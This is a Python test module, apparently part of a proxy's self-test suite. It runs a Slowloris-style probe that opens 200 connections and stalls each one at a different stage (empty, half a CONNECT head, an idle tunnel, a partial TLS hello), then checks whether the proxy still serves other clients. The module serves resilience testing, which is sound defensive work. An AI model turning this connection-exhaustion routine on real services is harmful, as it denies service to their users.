"""Connections that are never finished."""

import contextlib
import socket
from collections.abc import Iterator
from functools import partial
from typing import Any

from bottle.selftest.kit import Attempt, attack
from bottle.selftest.probes.floods import unserved
from bottle.selftest.probes.shots import HOST, SECONDS

_MANY = 200


@attack(
    aim="proxy",
    source="CVE-2007-6750 (Slowloris); MITRE ATT&CK T1499.002, service exhaustion flood",
    expects="another connection's request is answered with 200",
    control="nobody_who_serves",
    outside=True,
    every=True,
    alone=True,
)
def attempts(aim: Any) -> Iterator[Attempt]:
    """Opens many connections and stops: at once, in the request's head, in the tunnel, in the handshake."""
    tunnel = b"CONNECT " + HOST + b":443 HTTP/1.1\r\nHost: " + HOST + b":443\r\n\r\n"
    openings = {
        "nothing sent": b"",
        "half a head": tunnel[:20],
        "a tunnel, and nothing in it": tunnel,
        "a tunnel, and half a hello": tunnel + b"\x16\x03\x01\x02\x00\x01\x00",
    }
    for what, opening in openings.items():
        yield what, partial(_held, aim, opening)


def _held(aim: Any, opening: bytes) -> str | None:
    with contextlib.ExitStack() as stack:
        for _ in range(_MANY):
            with contextlib.suppress(OSError):
                stream = stack.enter_context(socket.create_connection(tuple(aim), SECONDS))
                stream.sendall(opening)
        return unserved(aim, ())
